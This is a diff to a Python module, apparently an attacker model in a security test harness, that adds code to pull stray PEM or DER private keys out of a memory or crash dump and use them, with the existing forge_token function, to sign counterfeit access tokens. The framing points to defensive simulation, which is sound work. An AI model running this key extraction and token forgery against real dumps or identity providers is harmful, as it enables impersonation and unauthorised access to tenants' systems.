@@ -1,6 +1,8 @@
 """The attacker: knows only what the 2023 attacker knew, the public JWKS documents and the bytes
 it fetched. It searches the bytes for the private half of any published key (with the
-known-key detector), rebuilds that key, and forges access tokens with it."""
+known-key detector), rebuilds that key, and forges access tokens with it. It also picks up
+every other private key lying in the bytes as PEM or DER (`loose_keys`) and tries those too,
+under their RFC 7638 thumbprint as kid, the way the published kids are made."""
 
 from __future__ import annotations
 
@@ -86,6 +88,45 @@ def steal_keys(dump: Path, published: list[dict[str, Any]]) -> list[StolenKey]:
     return list(stolen.values())
 
 
+def _thumbprint(private: PrivateKey) -> str:
+    if isinstance(private, rsa.RSAPrivateKey):
+        return str(RSAKey.import_key(private.public_key()).thumbprint())
+    if isinstance(private, ec.EllipticCurvePrivateKey):
+        return str(ECKey.import_key(private.public_key()).thumbprint())
+    return str(OKPKey.import_key(private.public_key()).thumbprint())
+
+
+def _load_serialized(raw: bytes, encoding: str) -> PrivateKey | None:
+    from cryptography.hazmat.primitives.serialization import load_der_private_key, load_pem_private_key
+
+    try:
+        if encoding == "utf-16le":
+            raw = raw.decode("utf-16-le").encode("ascii")
+        key = load_pem_private_key(raw, None) if raw.lstrip().startswith(b"-----") else load_der_private_key(raw, None)
+    except (ValueError, TypeError, UnicodeError):
+        return None
+    return key if isinstance(key, (rsa.RSAPrivateKey, ec.EllipticCurvePrivateKey, ed25519.Ed25519PrivateKey)) else None
+
+
+def loose_keys(dump: Path, published: list[dict[str, Any]]) -> list[StolenKey]:
+    """Private keys in `dump` as PEM or DER text whose public half no JWKS publishes."""
+    known = known_from_documents(published, "published JWKS")
+    report = scan_path(dump, ["text", "der"], known)
+    found: dict[str, StolenKey] = {}
+    with plain_copy(dump, sniff_container(head_of(dump))) as plain, open(plain, "rb") as handle:
+        for finding in report.findings:
+            handle.seek(finding.offset)
+            private = _load_serialized(handle.read(finding.length), finding.encoding)
+            if private is None or known.match(private) is not None:
+                continue
+            kid = _thumbprint(private)
+            alg = "RS256" if isinstance(private, rsa.RSAPrivateKey) else \
+                "ES256" if isinstance(private, ec.EllipticCurvePrivateKey) else "EdDSA"
+            found.setdefault(kid, StolenKey(kid, alg, "", private, f"{finding.kind} ({finding.encoding}) at offset "
+                                                                   f"{finding.offset}"))
+    return list(found.values())
+
+
 def forge_token(key: StolenKey, *, issuer: str, subject: str, tenant: str, audience: str, now: float,
                 lifetime: int = 3600) -> str:
     """An RFC 9068 access token, as the real issuer would shape it, signed with the stolen key."""
@@ -104,4 +145,4 @@ def forge_token(key: StolenKey, *, issuer: str, subject: str, tenant: str, audie
     return jwt.encode(header, claims, imported, algorithms=[key.alg])
 
 
-__all__ = ["StolenKey", "forge_token", "steal_keys"]
+__all__ = ["StolenKey", "forge_token", "loose_keys", "steal_keys"]
